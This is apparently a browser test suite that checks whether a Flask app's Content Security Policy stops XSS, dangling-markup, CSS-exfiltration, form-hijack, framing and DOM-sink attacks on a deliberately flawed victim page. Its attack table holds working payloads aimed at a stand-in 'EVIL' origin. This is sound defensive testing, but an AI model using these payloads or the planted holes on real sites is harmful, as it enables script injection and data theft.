"""Eighteen kinds of attack on a page that shows text of others as markup, in a real browser.

Each names what a policy would have to allow for it to work, and goes exactly as far.
"""

from collections.abc import Iterator
from queue import Queue
from typing import NamedTuple

import pytest
from flask import Flask, Response, request
from playwright.sync_api import Page

from app.security.csp import csp_nonce
from app.security.csp_syntax import DATA, HTTPS, NONCE, SELF, UNSAFE_INLINE, Policy
from tests.browser.conftest import Elsewhere, Serve

# The page with the hole, and the best case for an attacker: all on one line, since browsers
# drop addresses that swallowed a line break and a "<".
PAGE = (
    "<!doctype html><title>Victim</title>MARKUP"
    '<script nonce="NONCE" src="helper.js"></script>'
    '<form id="form"><input type="hidden" name="code" value="secret"><button>Go</button></form>'
    '<p id="sink"></p><script nonce="NONCE">FLAW</script><p>It\'s all</p>'
)
WIN = 'location="/won"'
WON, STOPPED = "/won", "stopped"

# What lets each in.
INLINE = {UNSAFE_INLINE}
OWN = {SELF, "*"}
ELSEWHERE = {HTTPS, "*"}
DATA_ADDRESS = {DATA}
BLOB_ADDRESS = {"blob:"}
NOT_SET: set[str] = set()

FALLBACKS = {
    "script-src-elem": ["script-src", "default-src"],
    "script-src-attr": ["script-src", "default-src"],
    "style-src-elem": ["style-src", "default-src"],
    "style-src-attr": ["style-src", "default-src"],
    "img-src": ["default-src"],
    "frame-src": ["child-src", "default-src"],
    "object-src": ["default-src"],
    "worker-src": ["child-src", "script-src", "default-src"],
}


class Attack(NamedTuple):
    """One try. It works where the policy allows all that it needs."""

    kind: str
    markup: str
    needs: dict[str, set[str]]
    click: str = ""
    # A faulty script of the page's own, and what the attacker puts into the address.
    flaw: str = ""
    fragment: str = ""
    # The attacker's page that the user visits, in place of the victim's.
    lure: str = ""


ATTACKS = {
    "inline-script": Attack(
        "inline script", f"<script>{WIN}</script>", {"script-src-elem": INLINE}
    ),
    "inline-script-with-an-old-nonce": Attack(
        "inline script", f'<script nonce="OLD">{WIN}</script>', {"script-src-elem": INLINE}
    ),
    "event-attribute": Attack(
        "event attribute", f"<img src=x onerror='{WIN}'>", {"script-src-attr": INLINE}
    ),
    "event-attribute-of-svg": Attack(
        "event attribute", f"<svg onload='{WIN}'></svg>", {"script-src-attr": INLINE}
    ),
    "javascript-link": Attack(
        "javascript address",
        f"<a href='javascript:void({WIN})'>Prize</a>",
        {"script-src-elem": INLINE},
        click="a",
    ),
    "javascript-frame": Attack(
        "javascript address",
        f"<iframe src='javascript:void(top.{WIN})'></iframe>",
        {"script-src-elem": INLINE},
    ),
    "script-from-another-origin": Attack(
        "script from elsewhere",
        '<script src="EVIL/attack.js"></script>',
        {"script-src-elem": ELSEWHERE},
    ),
    "script-from-a-data-address": Attack(
        "script from elsewhere",
        f"<script src='data:text/javascript,{WIN}'></script>",
        {"script-src-elem": DATA_ADDRESS},
    ),
    "script-from-an-own-address": Attack(
        "script from an own address that echoes",
        f"<script src='/echo.js?text={WIN}'></script>",
        {"script-src-elem": OWN},
    ),
    "nonce-theft": Attack(
        "theft of the next script's nonce",
        '<script src="EVIL/attack.js" x=',
        {"script-src-elem": ELSEWHERE},
    ),
    "base": Attack("base element", '<base href="EVIL/">', {"base-uri": ELSEWHERE}),
    "form": Attack(
        "form to another origin",
        '<form action="EVIL/won">',
        {"form-action": ELSEWHERE},
        click="button",
    ),
    "button": Attack(
        "form to another origin",
        '<button form="form" formaction="EVIL/won">Go</button>',
        {"form-action": ELSEWHERE},
        click="button:first-of-type",
    ),
    "object": Attack("plug-in", '<object data="EVIL/won"></object>', {"object-src": ELSEWHERE}),
    "embed": Attack("plug-in", '<embed src="EVIL/won">', {"object-src": ELSEWHERE}),
    "srcdoc-frame": Attack(
        "frame with its own markup",
        f"<iframe srcdoc='<script>top.{WIN}</script>'></iframe>",
        {"script-src-elem": INLINE},
    ),
    "frame": Attack(
        "frame of another origin", '<iframe src="EVIL/won"></iframe>', {"frame-src": ELSEWHERE}
    ),
    # No directive of any policy stops a page from being left.
    "meta-refresh": Attack(
        "refresh to another origin", '<meta http-equiv="refresh" content="0;url=EVIL/won">', {}
    ),
    "style-element": Attack(
        "style that reads attributes",
        '<style>html:has([value^="s"]) {background: url(EVIL/won)}</style>',
        {"style-src-elem": INLINE, "img-src": ELSEWHERE},
    ),
    "style-attribute": Attack(
        "style that reads attributes",
        '<p style="background: url(EVIL/won)">Prize</p>',
        {"style-src-attr": INLINE, "img-src": ELSEWHERE},
    ),
    "stylesheet": Attack(
        "stylesheet from another origin",
        '<link rel="stylesheet" href="EVIL/attack.css">',
        {"style-src-elem": ELSEWHERE, "img-src": ELSEWHERE},
    ),
    "image": Attack("image that swallows the page", "<img src='EVIL/won?", {"img-src": ELSEWHERE}),
    "inner-html": Attack(
        "markup by a script of the page",
        "",
        {"script-src-attr": INLINE, "require-trusted-types-for": NOT_SET},
        flaw="sink.innerHTML = decodeURIComponent(location.hash.slice(1))",
        fragment=f"<img src=x onerror='{WIN}'>",
    ),
    "data-worker": Attack(
        "worker by a script of the page",
        "",
        {"worker-src": DATA_ADDRESS, "require-trusted-types-for": NOT_SET},
        flaw=f"new Worker(location.hash.slice(1)).onmessage = () => {WIN}",
        fragment="data:text/javascript,postMessage(1)",
    ),
    "blob-worker": Attack(
        "worker by a script of the page",
        "",
        {"worker-src": BLOB_ADDRESS, "require-trusted-types-for": NOT_SET},
        flaw="const address = URL.createObjectURL(new Blob([location.hash.slice(1)]));"
        f"new Worker(address).onmessage = () => {WIN}",
        fragment="postMessage(1)",
    ),
    "framed": Attack(
        "framed by another origin",
        '<img src="/won">',
        {"frame-ancestors": ELSEWHERE},
        lure='<iframe src="SITE/victim"></iframe>',
    ),
}


@pytest.fixture
def page(page: Page, app: Flask, attack: Attack) -> Iterator[Page]:
    if not works(attack, app.config["CSP"]):
        yield page
        return
    # One that wins may still be on its way to another page when the next begins.
    own_page = page.context.new_page()
    yield own_page
    own_page.close()


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_gets_as_far_as_the_policy_lets_it(
    app: Flask, serve: Serve, page: Page, attack: Attack
) -> None:
    seen: Queue[str] = Queue()
    evil = Elsewhere(seen)
    evil_origin = serve(evil, https=True).at("127.0.0.1")
    add_victim(app, attack, evil_origin, seen)
    site = serve(app).at("localhost")
    evil.pages = {
        "/attack.js": WIN,
        "/helper.js": WIN,
        "/attack.css": "html {background: url(/won)}",
        "/": attack.lure.replace("SITE", site),
    }
    app.test_client().get("/victim")
    start = evil_origin if attack.lure else f"{site}/victim#{attack.fragment}"
    # A click before all is there hits nothing; what needs no click may be over by then.
    page.goto(start, wait_until="domcontentloaded" if attack.click else "commit")
    if attack.click:
        page.click(attack.click, no_wait_after=True)
    expected = WON if works(attack, app.config["CSP"]) else STOPPED
    assert outcome(seen) == expected
    if expected == STOPPED:
        page.goto(f"{site}/healthz")
        assert WON not in seen.queue


def test_few_kinds_of_attack_work(app: Flask) -> None:
    policy = app.config["CSP"]
    kinds = {attack.kind for attack in ATTACKS.values()}
    working = {attack.kind for attack in ATTACKS.values() if works(attack, policy)}
    assert len(kinds) == 18
    # Inline styles let several more in: a policy that allows them is for older pages.
    assert len(working) <= (6 if allows(policy, "style-src-attr", INLINE) else 1)


def add_victim(app: Flask, attack: Attack, evil: str, seen: "Queue[str]") -> None:
    """Give the app a page with a hole, and note what it is asked for and what was stopped."""
    nonces = ["none yet"]

    @app.before_request
    def note() -> None:
        report = request.get_json(force=True) if request.path == "/csp-reports" else {}
        # A policy that only reports stops nothing.
        enforced = report.get("csp-report", {}).get("disposition") == "enforce"
        seen.put(STOPPED if enforced else request.path)

    @app.get("/victim")
    def victim() -> str:
        markup = attack.markup.replace("EVIL", evil).replace("OLD", nonces[-1])
        nonces.append(csp_nonce())
        text = PAGE.replace("MARKUP", markup).replace("FLAW", attack.flaw)
        return text.replace("NONCE", nonces[-1])

    @app.get("/helper.js")
    def helper() -> Response:
        return Response("", mimetype="text/javascript")

    @app.get("/echo.js")
    def echo() -> Response:
        return Response(request.args["text"], mimetype="text/javascript")


def outcome(seen: "Queue[str]") -> str:
    """What happens first: the attack wins, or the browser reports that it stopped something."""
    return next(
        event for event in iter(lambda: seen.get(timeout=10), "") if event in (WON, STOPPED)
    )


def works(attack: Attack, policy: Policy) -> bool:
    return all(allows(policy, directive, by) for directive, by in attack.needs.items())


def allows(policy: Policy, directive: str, by: set[str]) -> bool:
    """Whether a policy names one of these sources where the directive takes them from."""
    chain = [directive, *FALLBACKS.get(directive, [])]
    sources = next((policy[name] for name in chain if name in policy), None)
    if sources is None:
        return True
    # A nonce switches 'unsafe-inline' off.
    counting = set(sources) - INLINE if NONCE in sources else set(sources)
    return not by.isdisjoint(counting)
